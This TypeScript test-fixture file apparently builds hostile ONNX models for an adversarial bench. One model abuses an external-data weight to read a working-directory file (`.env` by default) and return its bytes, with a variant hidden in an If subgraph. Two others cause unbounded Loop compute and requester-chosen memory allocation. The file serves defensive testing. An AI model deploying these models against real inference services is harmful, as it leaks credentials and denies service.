/**
 * Hostile ONNX models, built byte by byte (the generator's protobuf writer, scripts/models/onnx.ts), for the tests and the adversarial
 * bench (scripts/bench/attacks/*) of issue 20 "the operator node under attack":
 * - `exfiltrationModel`: ~140 bytes whose only weight is "external data" naming a file of the working
 *   directory (`.env` by default): a loader that honours it returns the file's bytes as the output;
 *   `nested` hides the same tensor inside an If branch (a subgraph);
 * - `endlessLoopModel`: a Loop whose trip count is the input `n` (int64 scalar): minutes of compute on
 *   request;
 * - `hugeAllocationModel`: ConstantOfShape of the input `shape` (int64[2]) summed to a scalar: the
 *   requester picks how much memory the operator tries to allocate.
 * Field numbers follow https://github.com/onnx/onnx/blob/main/onnx/onnx.proto.
 */

import { ProtoWriter } from "../models/onnx.js";

const T = { FLOAT: 1, UINT8: 2, INT64: 7, BOOL: 9 } as const;

type Build = (w: ProtoWriter) => void;

const valueInfo =
  (name: string, type: number, dims: readonly number[]): Build =>
  (w) =>
    w.string(1, name).message(2, (t) =>
      t.message(1, (tt) =>
        tt.int(1, type).message(2, (shape) => {
          for (const d of dims) shape.message(1, (dim) => dim.int(1, d));
        }),
      ),
    );

const tensor =
  (name: string, type: number, dims: readonly number[], raw: number[]): Build =>
  (w) => {
    for (const d of dims) w.int(1, d);
    w.int(2, type).string(8, name).bytes(9, Uint8Array.from(raw));
  };

/** A tensor whose bytes live in `location` (relative to the model's directory) at offset 0. */
const externalTensor =
  (name: string, dims: readonly number[], location: string): Build =>
  (w) => {
    for (const d of dims) w.int(1, d);
    w.int(2, T.UINT8).string(8, name);
    w.message(13, (e) => e.string(1, "location").string(2, location));
    w.message(13, (e) => e.string(1, "offset").string(2, "0"));
    w.message(13, (e) => e.string(1, "length").string(2, String(dims.reduce((a, b) => a * b, 1))));
    w.int(14, 1); // data_location = EXTERNAL
  };

interface NodeSpec {
  op: string;
  inputs: string[];
  outputs: string[];
  ints?: Record<string, number>;
  graphs?: Record<string, Build>;
}

const node =
  (n: NodeSpec): Build =>
  (w) => {
    for (const i of n.inputs) w.string(1, i);
    for (const o of n.outputs) w.string(2, o);
    w.string(4, n.op);
    for (const [k, v] of Object.entries(n.ints ?? {}))
      w.message(5, (a) => a.string(1, k).int(3, v).int(20, 2));
    for (const [k, g] of Object.entries(n.graphs ?? {}))
      w.message(5, (a) => a.string(1, k).message(6, g).int(20, 5));
  };

interface GraphSpec {
  name: string;
  nodes: NodeSpec[];
  initializers?: Build[];
  inputs: Build[];
  outputs: Build[];
}

const graph =
  (g: GraphSpec): Build =>
  (w) => {
    for (const n of g.nodes) w.message(1, node(n));
    w.string(2, g.name);
    for (const t of g.initializers ?? []) w.message(5, t);
    for (const i of g.inputs) w.message(11, i);
    for (const o of g.outputs) w.message(12, o);
  };

function model(g: GraphSpec): Uint8Array {
  const w = new ProtoWriter()
    .int(1, 8)
    .message(7, graph(g))
    .message(8, (o) => o.string(1, "").int(2, 13));
  return w.finish();
}

/**
 * Output `y` (uint8[length]) = the first `length` bytes of `location`, through an external-data weight.
 * Input `x` (uint8[1]) is unused. With `nested`, the weight sits in the `then` branch of an If on `c`.
 */
export function exfiltrationModel(length = 64, location = ".env", nested = false): Uint8Array {
  const inputs = [valueInfo("x", T.UINT8, [1])];
  const y = valueInfo("y", T.UINT8, [length]);
  if (!nested) {
    return model({
      name: "exfil",
      nodes: [{ op: "Identity", inputs: ["w"], outputs: ["y"] }],
      initializers: [externalTensor("w", [length], location)],
      inputs,
      outputs: [y],
    });
  }
  const branch = (name: string, init: Build): Build =>
    graph({
      name,
      nodes: [{ op: "Identity", inputs: [`${name}_w`], outputs: [`${name}_y`] }],
      initializers: [init],
      inputs: [],
      outputs: [valueInfo(`${name}_y`, T.UINT8, [length])],
    });
  return model({
    name: "exfil_nested",
    nodes: [
      {
        op: "If",
        inputs: ["c"],
        outputs: ["y"],
        graphs: {
          then_branch: branch("then", externalTensor("then_w", [length], location)),
          else_branch: branch("else", tensor("else_w", T.UINT8, [length], new Array<number>(length).fill(0))),
        },
      },
    ],
    initializers: [tensor("c", T.BOOL, [], [1])],
    inputs,
    outputs: [y],
  });
}

const int64Raw = (v: bigint): number[] => {
  const b = new Uint8Array(8);
  new DataView(b.buffer).setBigInt64(0, v, true);
  return [...b];
};

/** Output `y` (int64[1]) = n, counted one iteration at a time by a Loop whose trip count is the input `n`. */
export function endlessLoopModel(): Uint8Array {
  return model({
    name: "endless",
    nodes: [{ op: "Loop", inputs: ["n", "c0", "v0"], outputs: ["y"], graphs: { body: loopBody() } }],
    initializers: [
      tensor("c0", T.BOOL, [], [1]),
      tensor("v0", T.INT64, [1], int64Raw(0n)),
      tensor("one", T.INT64, [1], int64Raw(1n)),
    ],
    inputs: [valueInfo("n", T.INT64, [])],
    outputs: [valueInfo("y", T.INT64, [1])],
  });
}

function loopBody(): Build {
  return graph({
    name: "body",
    nodes: [
      { op: "Identity", inputs: ["cin"], outputs: ["cout"] },
      { op: "Add", inputs: ["vin", "one"], outputs: ["vout"] },
    ],
    inputs: [valueInfo("i", T.INT64, []), valueInfo("cin", T.BOOL, []), valueInfo("vin", T.INT64, [1])],
    outputs: [valueInfo("cout", T.BOOL, []), valueInfo("vout", T.INT64, [1])],
  });
}

/** Output `y` (float32 scalar) = the sum of a zero tensor of shape `shape` (input, int64[2]). */
export function hugeAllocationModel(): Uint8Array {
  return model({
    name: "huge",
    nodes: [
      { op: "ConstantOfShape", inputs: ["shape"], outputs: ["z"] },
      { op: "ReduceSum", inputs: ["z"], outputs: ["y"], ints: { keepdims: 0 } },
    ],
    inputs: [valueInfo("shape", T.INT64, [2])],
    outputs: [valueInfo("y", T.FLOAT, [])],
  });
}
